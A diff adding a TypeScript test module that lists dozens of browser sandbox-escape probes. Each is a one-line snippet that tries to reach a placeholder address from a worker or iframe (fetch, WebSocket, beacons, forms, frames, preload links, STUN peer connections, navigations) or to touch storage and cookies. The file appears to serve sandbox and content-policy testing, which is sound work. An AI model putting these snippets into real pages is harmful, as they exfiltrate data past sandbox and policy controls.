@@ -1,0 +1,143 @@
+/** Ways in which code may try to leave a worker or a document, to reach an address or what is stored. Each is a program whose last word
+ *  is the address `LEAK`, or one that reads what it should not; what it prints begins with `reached` if it got something. */
+export type Escapes = Readonly<Record<string, string>>;
+
+/** What is tried both in a worker and in a document. */
+const BOTH: Escapes = {
+  fetch: 'await fetch(LEAK, { mode: "no-cors" })',
+  'fetch with keepalive': 'await fetch(LEAK, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })',
+  XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", LEAK, false); x.send()',
+  WebSocket: 'new WebSocket(LEAK.replace("http", "ws"))',
+  WebSocketStream: 'await new WebSocketStream(LEAK.replace("http", "ws")).opened',
+  WebTransport: 'await new WebTransport(LEAK.replace("http:", "https:")).ready',
+  EventSource: 'new EventSource(LEAK)',
+  sendBeacon: 'navigator.sendBeacon(LEAK, "x")',
+  'import by address': 'await import(/* here */ LEAK)',
+  'import inside a blob':
+    'await import(URL.createObjectURL(new Blob([`import ${JSON.stringify(LEAK)}`], { type: "text/javascript" })))',
+  eval: 'await eval("import(LEAK)")',
+  Function: 'await new Function("a", "return import(a)")(LEAK)',
+  'a worker by address': 'new Worker(LEAK)',
+  'a worker from a blob':
+    'new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(LEAK)},{mode:"no-cors"});importScripts(${JSON.stringify(LEAK)})`])))',
+  'a shared worker': 'new SharedWorker(LEAK)',
+  'a service worker': 'await navigator.serviceWorker.register(LEAK)',
+  importScripts: 'importScripts(LEAK)',
+  'streamed WebAssembly': 'await WebAssembly.instantiateStreaming(fetch(LEAK))',
+  'a font': 'await new FontFace("x", `url(${LEAK})`).load()',
+  indexedDB:
+    'await new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = no; }); console.log("reached indexedDB")',
+  caches: 'await caches.open("x"); console.log("reached caches")',
+  'the origin private file system': 'await navigator.storage.getDirectory(); console.log("reached files")',
+  BroadcastChannel: 'new BroadcastChannel("x").postMessage(1)',
+};
+
+const IN_DOCUMENT: Escapes = {
+  localStorage: 'localStorage.setItem("x", "1"); console.log("reached localStorage")',
+  sessionStorage: 'sessionStorage.setItem("x", "1"); console.log("reached sessionStorage")',
+  cookies: 'document.cookie = "x=1"; if (document.cookie) console.log("reached cookies")',
+  'the page': 'parent.parent.document.title; console.log("reached the page")',
+  'the document around': 'parent.document.title; console.log("reached the document around")',
+  'storage of the page': 'top.localStorage.length; console.log("reached storage of the page")',
+  'top.location': 'top.location = LEAK',
+  'top.location.replace': 'top.location.replace(LEAK)',
+  'parent.location': 'parent.location = LEAK',
+  'window.open': 'open(LEAK)',
+  'window.open into the top': 'open(LEAK, "_top")',
+  'window.open into the parent': 'open(LEAK, "_parent")',
+  'a link to the top': 'Object.assign(document.createElement("a"), { href: LEAK, target: "_top" }).click()',
+  'a link to a new window': 'Object.assign(document.createElement("a"), { href: LEAK, target: "_blank" }).click()',
+  'a link with ping':
+    'Object.assign(document.body.appendChild(document.createElement("a")), { href: "#x", ping: LEAK }).click()',
+  'a download': 'Object.assign(document.createElement("a"), { href: LEAK, download: "x" }).click()',
+  'a form':
+    'const f = document.body.appendChild(document.createElement("form")); f.action = LEAK; f.method = "post"; f.submit()',
+  'a form of the top':
+    'const f = document.body.appendChild(document.createElement("form")); f.action = LEAK; f.target = "_top"; f.submit()',
+  'an image': 'new Image().src = LEAK',
+  'an audio': 'new Audio(LEAK).play().catch(() => 0)',
+  'a style of CSS': 'document.body.style.background = `url(${LEAK})`',
+  'a frame': 'document.body.appendChild(document.createElement("iframe")).src = LEAK',
+  'an empty frame': `const w = document.body.appendChild(document.createElement("iframe")).contentWindow;
+    w.fetch(LEAK, { mode: "no-cors" }).catch(() => 0); new w.WebSocket(LEAK.replace("http", "ws")); w.navigator.sendBeacon(LEAK)`,
+  'a frame with a document of its own': `const f = document.createElement("iframe");
+    f.srcdoc = '<img src="' + LEAK + '"><script>fetch("' + LEAK + '")</' + 'script>'; document.body.append(f)`,
+  'a frame from a blob': `const f = document.createElement("iframe");
+    f.src = URL.createObjectURL(new Blob(['<img src="' + LEAK + '">'], { type: 'text/html' })); document.body.append(f)`,
+  'a frame from data': `document.body.appendChild(document.createElement("iframe")).src = 'data:text/html,<img src="' + LEAK + '">'`,
+  'an object': 'document.body.appendChild(document.createElement("object")).data = LEAK',
+  'an embed': 'document.body.appendChild(document.createElement("embed")).src = LEAK',
+  'a script': 'document.body.appendChild(document.createElement("script")).src = LEAK',
+  'a module script':
+    'document.body.append(Object.assign(document.createElement("script"), { type: "module", src: LEAK }))',
+  'rules of speculation': `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules',
+    textContent: JSON.stringify({ prefetch: [{ urls: [LEAK], eagerness: 'immediate' }], prerender: [{ urls: [LEAK], eagerness: 'immediate' }] }) }))`,
+  ...Object.fromEntries(
+    [
+      'stylesheet',
+      'preconnect',
+      'dns-prefetch',
+      'preload',
+      'prefetch',
+      'prerender',
+      'modulepreload',
+      'manifest',
+      'icon',
+    ].map((rel) => [
+      `a link of ${rel}`,
+      `const l = document.createElement("link"); l.rel = "${rel}"; l.as = "script"; l.href = LEAK; document.head.append(l)`,
+    ]),
+  ),
+  'a base': `document.head.append(Object.assign(document.createElement('base'), { href: LEAK })); new Image().src = 'x.png'`,
+};
+
+/** The one way that no policy names which browsers enforce. */
+export const PEERS: Escapes = {
+  'a peer connection': `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(LEAK).host }] });
+    p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((yes) => setTimeout(yes, 400))`,
+  'a peer connection of an empty frame': `const w = document.body.appendChild(document.createElement("iframe")).contentWindow;
+    const p = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(LEAK).host }] });
+    p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((yes) => setTimeout(yes, 400))`,
+  ...Object.fromEntries(
+    Object.entries({
+      'a frame': 'document.body.append(f)',
+      'a frame in a shadow root':
+        'document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" }).append(f)',
+      'a frame in markup': 'document.body.appendChild(document.createElement("div")).innerHTML = f.outerHTML',
+      'a frame in a shadow root of markup':
+        'document.body.appendChild(document.createElement("div")).setHTMLUnsafe(`<template shadowrootmode="closed">${f.outerHTML}</template>`)',
+      'a frame that is written': 'document.write(f.outerHTML)',
+    }).map(([name, insert]) => [
+      `a peer connection of ${name} with a document of its own`,
+      `const f = document.createElement('iframe');
+      f.srcdoc = '<script>const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:' + new URL(LEAK).host + '" }] });' +
+        'p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))</' + 'script>';
+      ${insert};
+      await new Promise((yes) => setTimeout(yes, 400))`,
+    ]),
+  ),
+};
+
+/** Ways to lead the document itself elsewhere: what is refused leaves an empty one. */
+export const NAVIGATIONS: Escapes = {
+  'its own address': 'location.href = LEAK',
+  'a link':
+    'document.body.append(Object.assign(document.createElement("a"), { href: LEAK })); document.links[0].click()',
+  'a refresh': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + LEAK }))`,
+};
+
+export const WORKER_ESCAPES: Escapes = BOTH;
+export const DOCUMENT_ESCAPES: Escapes = { ...BOTH, ...IN_DOCUMENT };
+
+/** All of them, one after the other; each prints what became of it. */
+export function toEscapeProgram(escapes: Escapes, address: string): string {
+  return Object.entries(escapes)
+    .map(
+      ([name, code]) => `try {
+  const LEAK = ${JSON.stringify(`${address}/rahasia`)} + '?' + ${JSON.stringify(encodeURIComponent(name))};
+  await Promise.race([(async () => { ${code} })(), new Promise((yes) => setTimeout(yes, 1500))]);
+  console.log('done: ${name}');
+} catch (error) { console.log('refused: ${name}: ' + (error && error.name)); }`,
+    )
+    .join('\n');
+}
